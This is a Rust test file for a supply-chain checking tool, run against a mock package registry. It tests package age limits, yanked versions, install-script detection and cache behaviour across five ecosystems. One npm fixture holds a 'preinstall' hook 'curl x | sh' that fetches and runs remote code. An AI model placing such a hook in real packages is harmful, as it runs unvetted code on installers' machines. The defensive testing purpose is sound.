//! Registry facts against a mock registry on 127.0.0.1 (issue #7, item 2):
//! existence, age, install scripts, scoped names, every ecosystem's
//! endpoint, a registry that is down or silent, malformed answers, and the
//! on-disk cache.

#![allow(clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::collections::BTreeMap;
use std::time::{Duration, Instant, SystemTime};

use common::fixtures::*;
use common::mock_registry::{ok, MockRegistry, Reply};
use palisade_supply::registry::{
    facts, too_new, PackageFacts, RegistryConfig, RegistryError, Resolution, Young, DEFAULT_MIN_AGE,
};
use palisade_supply::{Ecosystem, Install, Source};
use pretty_assertions::assert_eq;
use serde_json::json;

fn install(ecosystem: Ecosystem, name: &str, version: Option<&str>) -> Install {
    Install {
        ecosystem,
        name: name.into(),
        version: version.map(Into::into),
        source: Source::Registry { index: None },
    }
}

/// A config pointing at `mock`, caching into `cache`.
fn config(mock: &MockRegistry, cache: &tempfile::TempDir) -> RegistryConfig {
    RegistryConfig {
        cache_dir: Some(cache.path().to_path_buf()),
        timeout: Duration::from_secs(5),
        ..RegistryConfig::under(&mock.base_url())
    }
}

fn lookup(mock: &MockRegistry, i: &Install) -> Result<PackageFacts, RegistryError> {
    let cache = tempfile::tempdir().unwrap();
    facts(i, &config(mock, &cache))
}

fn age_days(t: Option<SystemTime>) -> Option<u64> {
    t.and_then(|t| SystemTime::now().duration_since(t).ok())
        .map(|d| (d.as_secs_f64() / 86_400.0).round() as u64)
}

fn young(f: &PackageFacts) -> Option<Young> {
    too_new(f, SystemTime::now(), DEFAULT_MIN_AGE).map(|t| t.what)
}

#[test]
fn npm_existing_old_package() {
    let doc = npm_doc(
        "left-pad",
        &[npm_version("1.0.0", 400.0), npm_version("1.1.0", 300.0)],
        "1.1.0",
    );
    let mock = MockRegistry::start([("/npm/left-pad", ok(doc))]);
    let f = lookup(&mock, &install(Ecosystem::Npm, "left-pad", None)).unwrap();
    assert!(f.exists);
    assert_eq!(age_days(f.first_published), Some(400));
    let v = f.version.clone().unwrap();
    assert_eq!(
        (v.version.as_str(), v.resolution, age_days(v.published)),
        ("1.1.0", Resolution::Latest, Some(300))
    );
    assert_eq!(v.install_scripts, BTreeMap::new());
    assert_eq!(young(&f), None);
    assert!(!f.from_cache);
    assert_eq!(mock.paths(), vec!["/npm/left-pad"]);
    let head = mock.heads().concat().to_ascii_lowercase();
    assert!(head.contains("\r\nuser-agent: palisade/"), "{head}");
    assert!(head.contains("\r\naccept: application/json"), "{head}");
}

#[test]
fn npm_unknown_package_does_not_exist() {
    let mock = MockRegistry::start(Vec::<(String, Reply)>::new());
    let f = lookup(&mock, &install(Ecosystem::Npm, "reqeusts-helper", None)).unwrap();
    assert!(!f.exists);
    assert_eq!(f.version, None);
    assert_eq!(young(&f), None);
}

#[test]
fn npm_package_first_published_yesterday_is_too_new() {
    let doc = npm_doc("fresh", &[npm_version("0.0.1", 1.0)], "0.0.1");
    let mock = MockRegistry::start([("/npm/fresh", ok(doc))]);
    let f = lookup(&mock, &install(Ecosystem::Npm, "fresh", None)).unwrap();
    let t = too_new(&f, SystemTime::now(), DEFAULT_MIN_AGE).unwrap();
    assert_eq!(t.what, Young::Package);
    assert!(t.age < Duration::from_secs(2 * 86_400));
    // A 12-hour policy lets it through.
    assert_eq!(
        too_new(&f, SystemTime::now(), Duration::from_secs(12 * 3600)),
        None
    );
}

#[test]
fn npm_new_version_of_old_package_is_too_new_but_pinned_old_one_is_not() {
    let doc = npm_doc(
        "lib",
        &[npm_version("1.0.0", 900.0), npm_version("1.0.1", 2.0)],
        "1.0.1",
    );
    let mock = MockRegistry::start([("/npm/lib", ok(doc))]);
    let f = lookup(&mock, &install(Ecosystem::Npm, "lib", Some("^1.0.0"))).unwrap();
    assert_eq!(
        f.version.as_ref().map(|v| v.resolution.clone()),
        Some(Resolution::Latest)
    );
    assert_eq!(young(&f), Some(Young::Version));
    // 72 h policy (issue #7's example): two days is still too new.
    let t = too_new(&f, SystemTime::now(), Duration::from_secs(72 * 3600));
    assert_eq!(t.map(|t| t.what), Some(Young::Version));

    let pinned = lookup(&mock, &install(Ecosystem::Npm, "lib", Some("1.0.0"))).unwrap();
    let v = pinned.version.clone().unwrap();
    assert_eq!(
        (v.version.as_str(), v.resolution),
        ("1.0.0", Resolution::Exact)
    );
    assert_eq!(young(&pinned), None);
}

#[test]
fn npm_install_scripts_and_scoped_name() {
    let mut new = npm_version("2.0.0", 30.0);
    new.scripts =
        json!({"test": "jest", "postinstall": "node ./collect.js", "preinstall": "curl x | sh"});
    let doc = npm_doc("@acme/widget", &[npm_version("1.0.0", 60.0), new], "2.0.0");
    let mock = MockRegistry::start([("/npm/@acme%2fwidget", ok(doc))]);
    let f = lookup(&mock, &install(Ecosystem::Npm, "@acme/widget", None)).unwrap();
    assert_eq!(f.name, "@acme/widget");
    let scripts = f.version.unwrap().install_scripts;
    assert_eq!(
        scripts,
        BTreeMap::from([
            ("postinstall".to_owned(), "node ./collect.js".to_owned()),
            ("preinstall".to_owned(), "curl x | sh".to_owned()),
        ])
    );
    let old = lookup(
        &mock,
        &install(Ecosystem::Npm, "@acme/widget", Some("1.0.0")),
    )
    .unwrap();
    assert_eq!(old.version.unwrap().install_scripts, BTreeMap::new());
    assert_eq!(
        mock.paths(),
        vec!["/npm/@acme%2fwidget", "/npm/@acme%2fwidget"]
    );
}

#[test]
fn npm_missing_version_dist_tag_and_deprecation() {
    let doc = npm_doc(
        "lib",
        &[
            npm_version("1.0.0", 100.0),
            npm_version("2.0.0-beta.1", 50.0),
        ],
        "1.0.0",
    );
    let mut doc: serde_json::Value = serde_json::from_str(&doc).unwrap();
    doc["versions"]["1.0.0"]["deprecated"] = json!("use lib2");
    let mock = MockRegistry::start([("/npm/lib", ok(doc.to_string()))]);

    let missing = lookup(&mock, &install(Ecosystem::Npm, "lib", Some("9.9.9"))).unwrap();
    assert!(missing.exists);
    assert_eq!(missing.version, None);
    assert_eq!(missing.missing_version.as_deref(), Some("9.9.9"));

    let next = lookup(&mock, &install(Ecosystem::Npm, "lib", Some("next"))).unwrap();
    let v = next.version.unwrap();
    assert_eq!(
        (v.version.as_str(), v.resolution),
        ("2.0.0-beta.1", Resolution::Tag("next".into()))
    );

    let latest = lookup(&mock, &install(Ecosystem::Npm, "lib", None)).unwrap();
    assert_eq!(
        latest.version.unwrap().deprecated.as_deref(),
        Some("use lib2")
    );
}

#[test]
fn pypi_exists_yanked_and_missing() {
    let doc = pypi_doc(
        "Requests",
        &[
            ("2.0.0", 800.0, false),
            ("2.1.0", 3.0, true),
            ("2.0.1", 700.0, false),
        ],
        "2.0.1",
    );
    let mock = MockRegistry::start([("/pypi/pypi/requests/json", ok(doc))]);
    // The URL uses the PEP 503 name.
    let f = lookup(&mock, &install(Ecosystem::PyPI, "Requests", None)).unwrap();
    assert!(f.exists);
    assert_eq!(age_days(f.first_published), Some(800));
    let v = f.version.clone().unwrap();
    assert_eq!((v.version.as_str(), v.yanked), ("2.0.1", false));
    assert_eq!(young(&f), None);

    let yanked = lookup(
        &mock,
        &install(Ecosystem::PyPI, "requests", Some("==2.1.0")),
    )
    .unwrap();
    let v = yanked.version.clone().unwrap();
    assert_eq!((v.version.as_str(), v.yanked), ("2.1.0", true));
    assert_eq!(young(&yanked), Some(Young::Version));

    let missing = lookup(&mock, &install(Ecosystem::PyPI, "requests", Some("3.0"))).unwrap();
    assert_eq!(missing.missing_version.as_deref(), Some("3.0"));

    let absent = lookup(&mock, &install(Ecosystem::PyPI, "requestss", None)).unwrap();
    assert!(!absent.exists);
}

#[test]
fn crates_sparse_index() {
    let index = crates_index(
        "serde_json",
        &[
            ("0.1.0", None, false),
            ("1.0.0", Some(400.0), false),
            ("1.0.1", Some(1.0), true),
        ],
    );
    let young_index = crates_index("fresh", &[("0.1.0", Some(2.0), false)]);
    let mock = MockRegistry::start([
        ("/crates/se/rd/serde_json", ok(index)),
        ("/crates/fr/es/fresh", ok(young_index)),
    ]);
    // Asked with the other spelling: found after one miss, as cargo does.
    let f = lookup(&mock, &install(Ecosystem::CratesIo, "serde-json", None)).unwrap();
    assert_eq!(
        mock.paths(),
        vec!["/crates/se/rd/serde-json", "/crates/se/rd/serde_json"]
    );
    assert_eq!(f.name, "serde_json");
    // The first line predates `pubtime`: unknown, so not "too new".
    assert_eq!(f.first_published, None);
    // The yanked 1.0.1 is not what cargo picks.
    assert_eq!(
        f.version.as_ref().map(|v| v.version.as_str()),
        Some("1.0.0")
    );
    assert_eq!(young(&f), None);

    let pinned = lookup(
        &mock,
        &install(Ecosystem::CratesIo, "serde_json", Some("=1.0.1")),
    )
    .unwrap();
    let v = pinned.version.clone().unwrap();
    assert_eq!((v.yanked, young(&pinned)), (true, Some(Young::Version)));

    let fresh = lookup(&mock, &install(Ecosystem::CratesIo, "fresh", None)).unwrap();
    assert_eq!(young(&fresh), Some(Young::Package));

    let absent = lookup(&mock, &install(Ecosystem::CratesIo, "no_such", None)).unwrap();
    assert!(!absent.exists);
}

#[test]
fn rubygems_version_listing() {
    let listing = rubygems_versions(&[
        ("7.1.0.rc1", 1.0, true),
        ("7.0.1", 5.0, false),
        ("7.0.0", 500.0, false),
    ]);
    let mock = MockRegistry::start([("/rubygems/api/v1/versions/rails.json", ok(listing))]);
    let f = lookup(&mock, &install(Ecosystem::RubyGems, "rails", None)).unwrap();
    assert_eq!(age_days(f.first_published), Some(500));
    assert_eq!(
        f.version.as_ref().map(|v| v.version.as_str()),
        Some("7.0.1")
    );
    assert_eq!(young(&f), Some(Young::Version));
    let absent = lookup(&mock, &install(Ecosystem::RubyGems, "railz", None)).unwrap();
    assert!(!absent.exists);
}

#[test]
fn go_package_below_module_root() {
    let mock = MockRegistry::start([
        (
            "/go/golang.org/x/tools/@latest",
            ok(go_info("v0.20.0", 20.0)),
        ),
        (
            "/go/golang.org/x/tools/@v/list",
            ok("v0.20.0\nv0.1.0\nv0.10.0\n"),
        ),
        (
            "/go/golang.org/x/tools/@v/v0.1.0.info",
            ok(go_info("v0.1.0", 2000.0)),
        ),
        (
            "/go/golang.org/x/tools/@v/v0.10.0.info",
            ok(go_info("v0.10.0", 300.0)),
        ),
        (
            "/go/github.com/!azure/sdk/@v/v1.2.3.info",
            ok(go_info("v1.2.3", 3.0)),
        ),
        ("/go/github.com/!azure/sdk/@v/list", ok("v1.2.3\n")),
    ]);
    let f = lookup(
        &mock,
        &install(Ecosystem::Go, "golang.org/x/tools/cmd/goimports", None),
    )
    .unwrap();
    assert_eq!(f.name, "golang.org/x/tools");
    assert_eq!(age_days(f.first_published), Some(2000));
    assert_eq!(
        f.version.as_ref().map(|v| v.version.as_str()),
        Some("v0.20.0")
    );

    let exact = lookup(
        &mock,
        &install(Ecosystem::Go, "github.com/Azure/sdk", Some("v1.2.3")),
    )
    .unwrap();
    assert_eq!(young(&exact), Some(Young::Package));

    let missing = lookup(
        &mock,
        &install(Ecosystem::Go, "golang.org/x/tools", Some("v9.0.0")),
    )
    .unwrap();
    assert_eq!(missing.missing_version.as_deref(), Some("v9.0.0"));
    assert!(missing.exists);

    mock.set(
        "/go/example.com/gone/@latest",
        Reply::Body(410, "not found".into()),
    );
    let absent = lookup(&mock, &install(Ecosystem::Go, "example.com/gone", None)).unwrap();
    assert!(!absent.exists);
}

#[test]
fn registry_refusing_connections_is_unreachable() {
    let port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let cache = tempfile::tempdir().unwrap();
    let config = RegistryConfig {
        cache_dir: Some(cache.path().to_path_buf()),
        ..RegistryConfig::under(&format!("http://127.0.0.1:{port}"))
    };
    let err = facts(&install(Ecosystem::Npm, "left-pad", None), &config).unwrap_err();
    assert!(matches!(err, RegistryError::Unreachable { .. }), "{err}");
}

#[test]
fn registry_server_errors_are_unreachable() {
    let mock = MockRegistry::start([("/npm/x", Reply::Body(503, "busy".into()))]);
    let err = lookup(&mock, &install(Ecosystem::Npm, "x", None)).unwrap_err();
    assert!(matches!(err, RegistryError::Unreachable { .. }), "{err}");
    assert!(err.to_string().contains("HTTP 503"), "{err}");
}

#[test]
fn silent_registry_times_out_within_the_configured_time() {
    let mock = MockRegistry::start([("/npm/slow", Reply::Hang)]);
    let cache = tempfile::tempdir().unwrap();
    let config = RegistryConfig {
        timeout: Duration::from_millis(300),
        ..config(&mock, &cache)
    };
    let started = Instant::now();
    let err = facts(&install(Ecosystem::Npm, "slow", None), &config).unwrap_err();
    let took = started.elapsed();
    assert!(matches!(err, RegistryError::Timeout { .. }), "{err}");
    // Loose bound: the point is that it does not wait for the server.
    assert!(took < Duration::from_secs(3), "took {took:?}");
}

#[test]
fn malformed_json_is_a_bad_response() {
    let mock = MockRegistry::start([
        ("/npm/broken", ok("{\"versions\": {")),
        ("/pypi/pypi/broken/json", ok("[]")),
        (
            "/crates/br/ok/broken",
            ok("{\"name\":\"broken\",\"vers\":\"1.0.0\"}\nnot json\n"),
        ),
        ("/rubygems/api/v1/versions/broken.json", ok("{}")),
        ("/go/example.com/broken/@latest", ok("<html>")),
    ]);
    for ecosystem in [
        Ecosystem::Npm,
        Ecosystem::PyPI,
        Ecosystem::CratesIo,
        Ecosystem::RubyGems,
    ] {
        let err = lookup(&mock, &install(ecosystem, "broken", None)).unwrap_err();
        assert!(
            matches!(err, RegistryError::BadResponse { .. }),
            "{ecosystem:?}: {err}"
        );
    }
    let err = lookup(&mock, &install(Ecosystem::Go, "example.com/broken", None)).unwrap_err();
    assert!(matches!(err, RegistryError::BadResponse { .. }), "{err}");
}

#[test]
fn cache_answers_after_the_registry_is_gone() {
    let doc = npm_doc("left-pad", &[npm_version("1.3.0", 900.0)], "1.3.0");
    let mock = MockRegistry::start([("/npm/left-pad", ok(doc))]);
    let cache = tempfile::tempdir().unwrap();
    let config = config(&mock, &cache);
    let i = install(Ecosystem::Npm, "left-pad", None);
    let cold = facts(&i, &config).unwrap();
    drop(mock);

    let warm = facts(&i, &config).unwrap();
    assert!(warm.from_cache);
    assert_eq!(
        PackageFacts {
            from_cache: false,
            ..warm
        },
        cold
    );
    // Another requested version is another entry: not cached, so it needs
    // the (now gone) registry.
    let other = facts(&install(Ecosystem::Npm, "left-pad", Some("1.0.0")), &config);
    assert!(matches!(other, Err(RegistryError::Unreachable { .. })));
}

#[test]
fn expired_entries_are_fetched_again() {
    let doc = npm_doc("left-pad", &[npm_version("1.3.0", 900.0)], "1.3.0");
    let mock = MockRegistry::start([("/npm/left-pad", ok(doc))]);
    let cache = tempfile::tempdir().unwrap();
    let i = install(Ecosystem::Npm, "left-pad", None);
    let fresh = RegistryConfig {
        cache_ttl: Duration::from_secs(3600),
        ..config(&mock, &cache)
    };
    facts(&i, &fresh).unwrap();
    assert!(facts(&i, &fresh).unwrap().from_cache);
    assert_eq!(mock.hits(), 1);

    let expired = RegistryConfig {
        cache_ttl: Duration::ZERO,
        ..fresh.clone()
    };
    assert!(!facts(&i, &expired).unwrap().from_cache);
    assert_eq!(mock.hits(), 2);

    // "Does not exist" has its own, shorter TTL.
    let absent = install(Ecosystem::Npm, "left-padd", None);
    facts(&absent, &fresh).unwrap();
    assert!(facts(&absent, &fresh).unwrap().from_cache);
    let negative_expired = RegistryConfig {
        negative_cache_ttl: Duration::ZERO,
        ..fresh.clone()
    };
    assert!(!facts(&absent, &negative_expired).unwrap().from_cache);
    // The positive entry is still fresh under that config.
    assert!(facts(&i, &negative_expired).unwrap().from_cache);
}

#[test]
fn corrupt_cache_file_is_ignored_and_rewritten() {
    let doc = npm_doc("left-pad", &[npm_version("1.3.0", 900.0)], "1.3.0");
    let mock = MockRegistry::start([("/npm/left-pad", ok(doc))]);
    let cache = tempfile::tempdir().unwrap();
    let config = config(&mock, &cache);
    let file = cache.path().join("npm").join("left-pad.json");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    for garbage in [
        &b"{\"format\":1,\"entries\":{"[..],
        b"\xff\xfe\x00",
        b"[1,2,3]",
        b"",
    ] {
        std::fs::write(&file, garbage).unwrap();
        let f = facts(&install(Ecosystem::Npm, "left-pad", None), &config).unwrap();
        assert!(!f.from_cache);
        let rewritten: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        assert_eq!(rewritten["format"], json!(1));
    }
    assert!(
        facts(&install(Ecosystem::Npm, "left-pad", None), &config)
            .unwrap()
            .from_cache
    );
}

#[test]
fn offline_uses_any_cached_entry_and_never_the_network() {
    let doc = npm_doc("left-pad", &[npm_version("1.3.0", 900.0)], "1.3.0");
    let mock = MockRegistry::start([("/npm/left-pad", ok(doc))]);
    let cache = tempfile::tempdir().unwrap();
    let online = config(&mock, &cache);
    facts(&install(Ecosystem::Npm, "left-pad", None), &online).unwrap();
    let offline = RegistryConfig {
        offline: true,
        cache_ttl: Duration::ZERO,
        ..online
    };
    let f = facts(&install(Ecosystem::Npm, "left-pad", None), &offline).unwrap();
    assert!(f.from_cache);
    let err = facts(&install(Ecosystem::Npm, "other", None), &offline).unwrap_err();
    assert!(matches!(err, RegistryError::Offline { .. }), "{err}");
    assert_eq!(mock.hits(), 1);
}
